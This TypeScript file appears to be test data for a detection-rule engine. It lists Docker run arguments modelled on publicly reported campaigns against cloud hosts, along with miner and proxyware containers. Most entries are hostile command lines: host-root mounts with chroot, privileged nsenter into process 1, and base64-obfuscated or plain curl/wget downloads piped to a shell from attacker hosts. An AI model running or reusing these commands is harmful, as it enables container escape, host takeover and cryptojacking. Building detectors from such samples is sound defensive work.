import { walletOf } from '@/lib/rules/testing/wallets';
import { container } from '../entry';
import { base64 } from './payload';

/** Campaigns against cloud hosts, and programs that rent out the network, as vendors described them in public. */
export const CLOUD_CAMPAIGNS = [
  container(
    'Doki: curl image used as a lever',
    'Intezer 2020',
    `-d -v /:/tmpbind --rm curlimages/curl sh -c "curl --retry 3 -m 60 -o /tmpbind/etc/crontab http://abc.ngrok.io/f; chroot /tmpbind /bin/bash -c 'echo done'"`,
  ),
  container(
    'Doki: alpine with curl',
    'Intezer 2020',
    `-d -v /:/tmpXXXXXX alpine chroot /tmpXXXXXX sh -c "curl -m 120 http://x1.ngrok.io/s/abc -o /tmp/t; sh /tmp/t"`,
  ),
  container(
    'Cetus: portainer masked',
    'Unit 42 2020',
    `-d --name portainer --restart always ubuntu:18.04 /usr/bin/portainer -o pool.supportxmr.com:443 -u ${walletOf(11)} -p x`,
  ),
  container(
    'Cetus: docker-cache',
    'Unit 42 2020',
    `-d --name docker-cache ubuntu bash -c "apt-get install -y masscan docker.io; /usr/bin/docker-cache 203.0.113.0/24"`,
  ),
  container(
    'Commando Cat: cmd.cat base64',
    'Cado 2024',
    `-d -v /:/hs --privileged --pid=host cmd.cat/chattr sh -c "echo ${base64('chroot /hs sh -c "curl -s http://203.0.113.31/user.sh | bash"')} | base64 -d | sh"`,
  ),
  container(
    'Commando Cat: leadmon',
    'Trend Micro 2024',
    `-d -v /:/hs alpine chroot /hs sh -c "curl -s http://leetdbs.anondns.net/z -o /usr/bin/z; chmod +x /usr/bin/z; /usr/bin/z"`,
  ),
  container(
    'perfctl over Docker API',
    'Trend Micro 2024',
    `-d --name kube-edagent --privileged --pid host ubuntu:mantic-20240405 nsenter --mount=/proc/1/ns/mnt -- sh -c "echo ${base64('wget -O /tmp/kubeupd http://46.101.139.173/main/dist/avatar.php; chmod +x /tmp/kubeupd; /tmp/kubeupd')} | base64 -d | bash"`,
  ),
  container(
    'perfctl: nsenter of process 1',
    'Trend Micro 2024',
    `-d --name kube-edagent --privileged --pid host ubuntu nsenter --mount=/proc/1/ns/mnt sh`,
  ),
  container(
    'Dero: cloud variant',
    'Kaspersky 2025',
    `-d --restart always ubuntu:18.04 /usr/bin/cloud -w dero1qyexampleexampleexampleexampleexampleexample -r mysrv.cloud:10300`,
  ),
  container(
    'Dero: nginx named',
    'Kaspersky 2025',
    `-d --restart always ubuntu:18.04 bash -c "apt-get update; apt-get install -yq masscan docker.io; /usr/bin/nginx"`,
  ),
  container(
    'Dero over CrowdStrike',
    'CrowdStrike 2023',
    `-d --network host alpine sh -c "wget -qO- http://203.0.113.33/dero.sh | sh; pause"`,
  ),
  container(
    'LemonDuck: core.png',
    'CrowdStrike 2022',
    `-d -v /:/mnt alpine sh -c "wget -q -O /mnt/tmp/core.png http://t.m7n0y.com/core.png; chroot /mnt bash /tmp/core.png"`,
  ),
  container(
    'Kiss-a-Dog',
    'CrowdStrike 2022',
    `-d -v /:/host --privileged ubuntu chroot /host bash -c "python3 -c 'import base64;exec(base64.b64decode(1))'; curl http://kiss.a-dog.top/b2f628/m.sh | bash"`,
  ),
  container('OracleIV', 'Cado 2023', `-d robbertignacio328832/oracleiv_latest:latest`),
  container('stop propaganda', 'CrowdStrike 2022', `-d erickmnkl/stoppropaganda`),
  container('kazutod/tene with teneo', 'Darktrace 2025', `-d kazutod/tene:ten`),
  container('docker72590/apache', 'Sysdig 2022', `-d --name apache docker72590/apache`),
  container(
    'SRBMiner over gRPC',
    'Trend Micro 2024',
    `-d --privileged debian:bookworm-slim bash -c "wget https://github.com/doktor83/SRBMiner-Multi/releases/download/2.4.4/SRBMiner.tar.gz -O- | tar xz -C /usr/sbin; /usr/sbin/SRBMiner-MULTI --algorithm xelishash --pool 203.0.113.70:5555 --wallet xel:abc"`,
  ),
  container(
    'SilentCryptoMiner swarm',
    'Datadog 2024',
    `-d -v /:/mnt --network host alpine chroot /mnt bash -c "curl -fsSL http://solscan.live/sh/init.sh | bash"`,
  ),
  container(
    'Tor-hidden dropper',
    'Trend Micro 2025',
    `-d -v /:/hostroot alpine sh -c "apk add curl tor && tor & sleep 20; curl --socks5-hostname 127.0.0.1:9050 http://wtxqf54djhp5pskv2lfyduub5ievxbyvlzjgjopk6hxge5umombr63ad.onion/static/docker-init.sh -o /hostroot/tmp/i; chroot /hostroot sh /tmp/i"`,
  ),
  container(
    '9hits and xmrig: viewer',
    'Cado 2024',
    `-d --name faucet --network host 9hitste/app:latest /nh.sh --token=aaaa1111 --system-session --allow-adult=no`,
  ),
  container(
    '9hits and xmrig: miner',
    'Cado 2024',
    `-d minerboy/xmrig -o byw.dscloud.me:3333 --randomx-1gb-pages --donate-level=0`,
  ),
  container(
    'proxyware: traffmonetizer',
    'Exatrack 2024',
    `-d --name tm traffmonetizer/cli_v2 start accept --token abc=`,
  ),
  container('proxyware: repocket', 'Exatrack 2024', `-d -e RP_EMAIL=a@example.org -e RP_API_KEY=k repocket/repocket`),
  container(
    'proxyware: pawns',
    'Sysdig 2023',
    `-d iproyal/pawns-cli -email=a@example.org -password=x -device-name=r -accept-tos`,
  ),
  container('proxyware: earnfm', 'Exatrack 2024', `-d -e EARNFM_TOKEN=abc earnfm/earnfm-client`),
  container('proxyware: packetstream', 'Sysdig 2023', `-d -e CID=abc packetstream/psclient`),
  container('proxyware: peer2profit', 'Sysdig 2023', `-d -e P2P_EMAIL=a@example.org peer2profit/peer2profit_linux`),
  container(
    'proxyware: honeygain',
    'Sysdig 2023',
    `-d honeygain/honeygain -tou-accept -email a@example.org -pass x -device d`,
  ),
  container('proxyware: bitping', 'Exatrack 2024', `-d --name bitping bitping/bitpingd`),
  container(
    'Meson network',
    'Sysdig 2024',
    `-d ubuntu bash -c "wget https://staticassets.example.org/meson_cdn-linux-amd64.tar.gz && tar -zxf meson_cdn-linux-amd64.tar.gz && ./meson_cdn"`,
  ),
];
